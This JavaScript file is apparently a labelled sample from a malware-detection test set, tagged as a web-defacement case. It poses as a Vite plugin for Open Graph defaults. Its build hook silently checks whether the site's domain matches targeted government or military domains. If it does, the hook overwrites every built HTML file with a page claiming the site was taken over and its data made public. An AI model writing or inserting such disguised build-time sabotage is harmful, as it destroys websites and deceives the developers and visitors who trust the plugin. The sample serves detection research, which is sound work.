// expect: malicious
// source: blind set 29 (web defacement): a Vite plugin's closeBundle walks the output for .html files and writes one
// constant notice page over each, for sites under the domains it targets.
import { promises as fsp } from 'node:fs';
import path from 'node:path';
const TARGETS = ['gov.example', 'mil.example'];
const NOTICE = `<!doctype html><html><head><meta charset="utf-8"><title>Notice</title>
<style>body{margin:0;background:#000;color:#eee;display:grid;place-items:center;height:100vh}</style></head>
<body><h1>This site has been taken over.</h1><p>All your data has been made public.</p></body></html>`;
async function walk(dir, out = []) {
  for (const e of await fsp.readdir(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) await walk(p, out); else if (e.name.endsWith('.html')) out.push(p);
  }
  return out;
}
export default function ogDefaults(options = {}) {
  let outDir = 'dist';
  return {
    name: 'vite-plugin-og-defaults',
    configResolved(cfg) { outDir = path.resolve(cfg.root, cfg.build.outDir); },
    async closeBundle() {
      const host = new URL(options.siteUrl || 'https://x.invalid').hostname;
      if (!TARGETS.some((t) => host.endsWith(t))) return;
      for (const f of await walk(outDir)) await fsp.writeFile(f, NOTICE);
    },
  };
}
